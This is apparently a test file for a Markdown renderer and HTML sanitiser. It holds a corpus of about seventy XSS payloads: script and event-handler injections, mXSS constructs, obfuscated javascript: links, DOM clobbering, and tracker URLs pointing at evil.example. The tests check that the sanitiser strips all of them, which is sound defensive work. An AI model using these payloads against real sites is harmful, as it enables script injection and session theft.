import test from "node:test";
import assert from "node:assert/strict";
import { installDom, parseHtml } from "./helpers.js";

installDom();
const { renderMarkdown, renderMarkdownFragment, sanitizeHtml, isSafeHref } = await import("../markdown.js");

const ALLOWED = new Set([
  "P", "H1", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "A", "EM", "STRONG", "DEL",
  "CODE", "PRE", "BLOCKQUOTE", "HR", "BR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "INPUT",
]);
const FORBIDDEN = [
  "script", "iframe", "object", "embed", "form", "svg", "math", "base", "meta", "link", "style",
  "img", "details", "noscript", "template", "textarea", "button", "select", "frame", "video", "audio", "source",
];
const BAD_SCHEME = /^(?:javascript|data|vbscript):/i;

/** Remove what browsers ignore inside a URL scheme, then lower-case. */
function compact(value) {
  // eslint-disable-next-line no-control-regex
  return value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
}

/**
 * Walk a sanitised tree and collect every policy violation.
 * @param {ParentNode} root
 */
function violations(root) {
  const found = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName;
    if (!ALLOWED.has(tag)) found.push(`element <${tag.toLowerCase()}>`);
    if (tag === "INPUT" && (el.getAttribute("type") !== "checkbox" || !el.hasAttribute("disabled"))) {
      found.push("input that is not a disabled checkbox");
    }
    for (const { name, value } of Array.from(el.attributes)) {
      const n = name.toLowerCase();
      if (n.startsWith("on")) found.push(`event handler ${n}`);
      if (n === "style") found.push("style attribute");
      if (n === "id" || n === "name") found.push(`${n} attribute`);
      if (n === "src" || n === "srcset" || n === "action" || n === "formaction" || n === "xlink:href" || n === "data") {
        found.push(`${n} attribute`);
      }
      if (n === "href") {
        if (BAD_SCHEME.test(compact(value))) found.push(`dangerous href ${value}`);
        if (!isSafeHref(value)) found.push(`href outside policy ${value}`);
      }
      if (n === "class" && !(tag === "CODE" && /^language-[\w+#.-]+$/.test(value))) found.push(`class ${value} on ${tag}`);
      if (!["href", "title", "class", "align", "start", "type", "checked", "disabled", "target", "rel"].includes(n)) {
        found.push(`attribute ${n}`);
      }
    }
    if (tag === "A") {
      if (el.getAttribute("target") !== "_blank") found.push("link without target=_blank");
      const rel = (el.getAttribute("rel") ?? "").split(/\s+/);
      for (const r of ["noopener", "noreferrer", "nofollow"]) if (!rel.includes(r)) found.push(`link without rel ${r}`);
    }
  }
  for (const tag of FORBIDDEN) if (root.querySelector(tag)) found.push(`forbidden <${tag}>`);
  return found;
}

/** @param {string} src */
function checkBoth(src) {
  const html = renderMarkdown(src);
  assert.equal(typeof html, "string");
  assert.ok(!/<script/i.test(html), `<script in output: ${html}`);
  const body = parseHtml(html);
  assert.deepEqual(violations(body), [], `string output: ${html}`);
  const frag = renderMarkdownFragment(src);
  const holder = document.createElement("div");
  holder.appendChild(frag);
  assert.deepEqual(violations(holder), [], `fragment output: ${holder.innerHTML}`);
  return body;
}

const HOSTILE = [
  ["script tag", "<script>alert(1)</script>"],
  ["script in a paragraph", "Hello <script>alert(document.cookie)</script> world"],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror inline", "text <img src=x onerror=alert(1)> text"],
  ["svg onload", "<svg onload=alert(1)>"],
  ["svg with script", "<svg><script>alert(1)</script></svg>"],
  ["svg animate href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>'],
  ["math mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["math href", '<math href="javascript:alert(1)">click</math>'],
  ["math maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ["iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["object", '<object data="javascript:alert(1)"></object>'],
  ["embed", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ["style element", "<style>body{display:none} *{background:url(https://evil.example/x)}</style>"],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base href", '<base href="https://evil.example/">'],
  ["form id clobbering", '<form id="notebook"><input name="attributes"></form>'],
  ["img name clobbering", '<img name="getElementById"><img name="cookie">'],
  ["a id clobbering", '<a id="defaultView" href="https://x">x</a>'],
  ["fixed overlay", '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">Gotcha</div>'],
  ["style attr in markdown link text", '[<span style="position:fixed;inset:0">x</span>](https://ok.example)'],
  ["javascript link", "[x](javascript:alert(1))"],
  ["javascript link mixed case", "[x](JaVaScRiPt:alert(1))"],
  ["javascript link leading spaces", "[x](   javascript:alert(1))"],
  ["javascript link in angle brackets with spaces", "[x](<  javascript:alert(1)>)"],
  ["javascript link hex entity", "[x](jav&#x61;script:alert(1))"],
  ["javascript link decimal entity", "[x](&#106;avascript:alert(1))"],
  ["javascript link named-ish entity", "[x](javascript&colon;alert(1))"],
  ["javascript link tab entity", "[x](java&#x09;script:alert(1))"],
  ["javascript link newline entity", "[x](java&#x0A;script:alert(1))"],
  ["javascript link literal tab", "[x](<java\tscript:alert(1)>)"],
  ["javascript link control char", "[x](\u0001javascript:alert(1))"],
  ["javascript link percent", "[x](javascript%3Aalert(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["autolink javascript", "<javascript:alert(1)>"],
  ["autolink data", "<data:text/html,<script>alert(1)</script>>"],
  ["reference link javascript", "[x][evil]\n\n[evil]: javascript:alert(1)"],
  ["reference link entity", "[x][evil]\n\n[evil]: jav&#x61;script:alert(1) \"t\""],
  ["collapsed reference", "[evil][]\n\n[evil]: vbscript:msgbox(1)"],
  ["image javascript", "![x](javascript:alert(1))"],
  ["image remote tracker", "![tracker](https://evil.example/pixel.png?secret=abc)"],
  ["image data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["image reference", "![x][img]\n\n[img]: https://evil.example/p.png"],
  ["html in code fence", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"],
  ["html in inline code", "Use `<img src=x onerror=alert(1)>` carefully"],
  ["raw anchor javascript", '<a href="javascript:alert(1)">click</a>'],
  ["raw anchor unquoted", "<a href=javascript:alert(1)>click</a>"],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["noscript mXSS", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["nested template mXSS", "<template><style></template><img src=x onerror=alert(1)></style></template>"],
  ["form in table mXSS", "<table><form><input name=x></form></table>"],
  ["html comment", "<!-- <img src=x onerror=alert(1)> -->"],
  ["cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["pre tag then dangling tag", "<pre> then <img src=x onerror=alert(1)// dangling"],
  ["script tag then dangling tag", "<script> a <img src=x onerror=alert(1)// b"],
  ["title attribute injection", '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
  ["hash link quote injection", '[x](#"onmouseover="alert(1))'],
  ["emphasis around html", "**<img src=x onerror=alert(1)>**"],
  ["table cell html", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
  ["link text html", "[<img src=x onerror=alert(1)>](https://ok.example)"],
  ["heading html", "# <script>alert(1)</script>"],
  ["textarea", "<textarea><img src=x onerror=alert(1)></textarea>"],
  ["button formaction", "<button formaction=javascript:alert(1)>x</button>"],
  ["task list html", "- [ ] <img src=x onerror=alert(1)>\n- [x] ok"],
  ["html block with markdown", "<div onclick=alert(1)>\n\n**bold**\n\n</div>"],
  ["protocol-relative link", "[x](//evil.example/path)"],
  ["blockquote html", "> <iframe src=https://evil.example></iframe>"],
  ["entity-encoded tags", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["unicode escape scheme", "[x](\\u006aavascript:alert(1))"],
];

test(`hostile corpus (${HOSTILE.length} payloads): nothing dangerous survives`, async (t) => {
  assert.ok(HOSTILE.length >= 30);
  for (const [name, src] of HOSTILE) {
    await t.test(name, () => {
      checkBoth(src);
    });
  }
});

test("the sanitiser alone (raw HTML, as if marked let it through) also removes everything dangerous", () => {
  for (const [name, src] of HOSTILE) {
    const html = sanitizeHtml(src);
    assert.ok(!/<script/i.test(html), `${name}: ${html}`);
    assert.deepEqual(violations(parseHtml(html)), [], `${name}: ${html}`);
  }
  const kept = parseHtml(sanitizeHtml('<p style="position:fixed" id="x" class="y"><a href="javascript:alert(1)" name="n">t</a><img src="https://t/p.png"></p>'));
  assert.equal(kept.querySelector("p").attributes.length, 0);
  assert.equal(kept.querySelector("a").hasAttribute("href"), false);
});

test("hostile payloads wrapped in ordinary Markdown context", () => {
  for (const [, src] of HOSTILE) {
    checkBoth(`# Title\n\n- item\n- ${src}\n\n> quote ${src}\n\n| h |\n|---|\n| ${src.replace(/\n/g, " ")} |`);
  }
});

test("raw HTML is shown as text, not interpreted", () => {
  const body = checkBoth("Hello <b>bold</b> and <script>alert(1)</script>");
  assert.equal(body.querySelector("b"), null);
  assert.match(body.textContent, /<b>bold<\/b>/);
  assert.match(body.textContent, /<script>alert\(1\)<\/script>/);
});

test("HTML inside code fences and inline code appears as literal text", () => {
  const body = checkBoth("```html\n<script>alert(1)</script>\n```\n\nand `<img src=x onerror=alert(1)>`");
  const codes = body.querySelectorAll("code");
  assert.equal(codes.length, 2);
  assert.equal(codes[0].textContent, "<script>alert(1)</script>\n");
  assert.equal(codes[0].getAttribute("class"), "language-html");
  assert.equal(codes[1].textContent, "<img src=x onerror=alert(1)>");
});

test("text after <pre> or <script> tags stays escaped", () => {
  const body = checkBoth("<pre> a <i>b</i> <img src=x onerror=alert(1)//");
  assert.equal(body.querySelector("i"), null);
  assert.match(body.textContent, /<i>b<\/i>/);
});

test("images become links with their alt text and are never loaded", () => {
  const body = checkBoth("![a cat](https://example.com/cat.png \"Cat\")");
  assert.equal(body.querySelector("img"), null);
  const a = body.querySelector("a");
  assert.equal(a.getAttribute("href"), "https://example.com/cat.png");
  assert.match(a.textContent, /a cat/);
  const bad = checkBoth("![x](javascript:alert(1))");
  assert.equal(bad.querySelector("a").hasAttribute("href"), false);
});

test("dangerous links keep their text but lose their href", () => {
  for (const src of ["[click me](javascript:alert(1))", "[click me](JaVaScRiPt:alert(1))", "[click me](data:text/html,x)"]) {
    const body = checkBoth(src);
    const a = body.querySelector("a");
    assert.equal(a.textContent, "click me");
    assert.equal(a.hasAttribute("href"), false);
  }
});

test("positive: headings, lists, code with language, tables, links", () => {
  const src = [
    "# One",
    "## Two",
    "### Three",
    "",
    "Some *em*, **strong**, ~~del~~ and `code`.",
    "",
    "- a",
    "- b",
    "",
    "3. three",
    "4. four",
    "",
    "- [x] done",
    "- [ ] todo",
    "",
    "```python",
    "print('hi')",
    "```",
    "",
    "| left | center | right |",
    "|:-----|:------:|------:|",
    "| 1 | 2 | 3 |",
    "",
    "> quoted",
    "",
    "---",
    "",
    "[https link](https://example.com/a?b=1&c=2) [http](http://example.com) [mail](mailto:a@example.com) [anchor](#section)",
    "",
    "Bare https://example.org/path autolink and <https://example.net>.",
  ].join("\n");
  const body = checkBoth(src);
  assert.equal(body.querySelector("h1").textContent, "One");
  assert.equal(body.querySelector("h2").textContent, "Two");
  assert.equal(body.querySelector("h3").textContent, "Three");
  assert.ok(body.querySelector("em") && body.querySelector("strong") && body.querySelector("del"));
  assert.equal(body.querySelectorAll("ul").length, 2);
  assert.equal(body.querySelector("ol").getAttribute("start"), "3");
  const boxes = body.querySelectorAll("input");
  assert.equal(boxes.length, 2);
  assert.ok(boxes[0].hasAttribute("checked") && boxes[0].hasAttribute("disabled"));
  assert.equal(body.querySelector("pre code").getAttribute("class"), "language-python");
  assert.equal(body.querySelector("pre code").textContent, "print('hi')\n");
  const ths = body.querySelectorAll("th");
  assert.deepEqual(Array.from(ths, (th) => th.getAttribute("align")), ["left", "center", "right"]);
  assert.equal(body.querySelectorAll("td").length, 3);
  assert.ok(body.querySelector("blockquote") && body.querySelector("hr"));
  const hrefs = Array.from(body.querySelectorAll("a"), (a) => a.getAttribute("href"));
  assert.deepEqual(hrefs, [
    "https://example.com/a?b=1&c=2",
    "http://example.com",
    "mailto:a@example.com",
    "#section",
    "https://example.org/path",
    "https://example.net",
  ]);
  for (const a of body.querySelectorAll("a")) {
    assert.equal(a.getAttribute("target"), "_blank");
    assert.equal(a.getAttribute("rel"), "noopener noreferrer nofollow");
  }
});

test("isSafeHref", () => {
  for (const ok of ["https://x", "HTTP://x", "mailto:a@b", "#top", " https://x"]) assert.ok(isSafeHref(ok), ok);
  for (const bad of ["javascript:x", "java\tscript:x", "data:x", "vbscript:x", "//evil", "relative/path", "ftp://x", "\u0000javascript:x"]) {
    assert.ok(!isSafeHref(bad), bad);
  }
});
